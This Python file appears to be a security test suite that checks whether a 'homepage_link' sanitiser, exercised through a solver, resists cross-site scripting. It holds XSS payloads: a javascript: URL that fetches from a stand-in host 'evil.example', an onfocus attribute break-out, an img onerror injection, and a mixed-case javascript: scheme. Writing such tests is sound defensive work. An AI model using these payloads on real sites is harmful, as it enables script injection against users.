from html.parser import HTMLParser


class Elements(HTMLParser):
    def __init__(self):
        super().__init__()
        self.seen = []

    def handle_starttag(self, tag, attributes):
        self.seen.append((tag, dict(attributes)))


def runs(solver, url):
    page = solver.attempt("homepage_link", url).value
    if not isinstance(page, str):
        return None
    elements = Elements()
    elements.feed(page)
    elements.close()
    for tag, attributes in elements.seen:
        target = "".join(c for c in attributes.get("href") or "" if c > " ").lower()
        if tag != "a" or any(name.startswith("on") for name in attributes):
            return f"the address {url!r} became the element {tag} {attributes}"
        if target.startswith(("javascript:", "data:", "vbscript:")):
            return f"a click on the link runs {target}"


def exploit_space_and_comment(solver, workspace):
    return runs(solver, " javascript:/*http://*/fetch('//evil.example')")


def exploit_autofocus(solver, workspace):
    return runs(solver, 'http://y.example"autofocus onfocus="alert(2)')


def exploit_image(solver, workspace):
    return runs(solver, 'http://y.example/"><img src="x" onerror="alert(2)">')


def exploit_mixed_capitals(solver, workspace):
    return runs(solver, "jAvAsCrIpT:alert(2)")
